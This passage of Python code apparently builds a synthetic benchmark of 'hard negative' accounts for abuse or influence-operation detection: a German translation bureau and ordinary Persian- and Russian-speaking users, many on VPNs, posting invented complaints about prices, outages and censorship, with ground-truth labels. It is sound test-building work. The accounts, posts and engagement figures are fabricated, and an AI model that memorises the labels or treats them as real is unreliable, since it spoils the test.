        set_ctx(a, [(4.0, [office]), (1.0, [w.home_net(r, "DE")])])
        w.set_info(a, r, email=corp_email(w, r, a.lang, "uebersetzungsbuero-kant.de"), phone="DE", payment=card, created=_old_created(r), plan="team")
        starts = window_starts(r, 1, {0, 1, 2, 3, 4}, [(8.5, 12.5), (13.0, 17.0)], r.randint(9, 14))
        custom_sessions(w, a, r, starts, lambda rr, j: rr.choice(BUREAU), per=(1, 5))
    return [g]


# ---------------------------------------------------------------------------------------------
OWN_FA = ["امروز سه بار برق رفت. یخچال خالی، گوشی بی‌شارژ، حوصله صفر. تا کی؟",
          "قیمت نون دوباره رفت بالا. نونوایی سر کوچه می‌گفت خودشم نمی‌دونه ماه بعد چی میشه.",
          "هوای تهران امروز رسماً قابل دیدن بود، نه قابل نفس کشیدن. مدرسه‌ها باز تعطیل.",
          "با این فیلترینگ، نصف روزم صرف وصل شدن میشه. کار کردن شده شوخی.",
          "حقوقم همونه، اجاره دوبرابر شد. یکی توضیح بده این حساب چطوری جور درمیاد."]
OWN_RU = ["Опять подняли тарифы. Зарплата та же, цены новые. Кто-нибудь ещё считает, сколько уходит на коммуналку?",
          "Третий день не могу нормально зайти в мессенджер без танцев с бубном. Двадцать первый век, ага.",
          "Во дворе снег не убирали с понедельника. Зато к выборам обещают новую детскую площадку.",
          "Бензин снова подорожал. Еду на работу и считаю, во сколько мне обходится каждый километр.",
          "Закрыли наш ДК, куда ходили дети на кружки. Жалко до слёз."]
OWN_Q_FA = ["یه پست کوتاه برای توییتر درباره {n} بنویس، از دید خودم، لحنش یه کم تلخ باشه.", "کمکم کن یه استوری بنویسم درباره {n}."]
OWN_Q_RU = ["Помоги написать пост в свой телеграм-канал про {n}, от первого лица, без пафоса.", "Хочу коротко написать в соцсетях про {n}. Помоги сформулировать."]


def hn_ownposts(w):
    g = Group(w, "hn-15", "Ordinary Persian- and Russian-speaking users writing their own posts about news, prices and politics, many over commercial VPNs")
    r = g.r
    pub = []
    for i in range(r.randint(20, 30)):
        if r.random() < 0.6:
            lang, c, tz, off, loc = "fa", "IR", "Asia/Tehran", 3.5, "fa-IR"
            ex = [exit_for(w, "fa", "fa-shared")] + w.pick_vpn(r, "fa", 1)
            own, qs, news = OWN_FA, OWN_Q_FA, TALKERS["fa"].slots["news"]
        else:
            lang, c, tz, off, loc = "ru", "RU", "Europe/Moscow", 3, "ru-RU"
            ex = [exit_for(w, "ru", "ru-shared")] + w.pick_vpn(r, "ru", 1)
            own, qs, news = OWN_RU, OWN_Q_RU, TALKERS["ru"].slots["news"]
        a = g.account(lang, c, tz, off, loc)
        a.devices = [w.new_device(r)]
        set_ctx(a, [(3.0, ex), (1.0, [w.home_net(r, c)]), (1.0, r.choice(w.carrier[c]))])
        w.set_info(a, r, phone=c, created=_old_created(r), plan=r.choice(["free", "free", "plus"]))
        if a.info.get("plan") == "plus":
            a.info["payment"] = w.new_card(r)

        def extra(rr, own=own, qs=qs, news=news, lang=lang, a=a):
            text = rr.choice(own)
            pub.append((a.id, lang, text))
            return rr.choice(qs).replace("{n}", rr.choice(news)), lang, text
        gen_ordinary_activity(w, a, r, r.choice(["evening", "night", "student", "mixed"]), -86400 * 200,
                              n_target=r.randint(20, 40), extra_prompts=(0.25, extra))
    ro = rng(w.seed, "obs", g.gid)
    for aid, lang, text in ro.sample(pub, min(len(pub), 12)):
        w.observe({"id": obs_id(ro), "time": iso(ro.randint(1, 30) * 86400 + ro.randint(0, 23) * 3600),
                   "platform": ro.choice(["x", "telegram", "instagram"] if lang == "fa" else ["telegram", "vk", "x"]),
                   "author": handle(ro, ro.choice(["sara", "ali", "neda", "dima", "olga", "kolya"])), "language": lang,
                   "text": light_edit(ro, text),
                   "engagement": {"views": ro.randint(40, 3000), "likes": ro.randint(1, 150), "replies": ro.randint(0, 30), "followers": ro.randint(50, 4000)},
                   "authentic_engagement": True})
    return [g]


def build_hard_negatives(w):
    groups = []
    for fn in (hn_soc, hn_scam_checkers, hn_factcheck, hn_api, hn_lab, hn_families, hn_recruiters, hn_zh_vpn,
               hn_agency, hn_bureau, hn_ownposts):
        groups.extend(fn(w))
    groups.sort(key=lambda g: g.gid)
    return [g.truth() for g in groups]
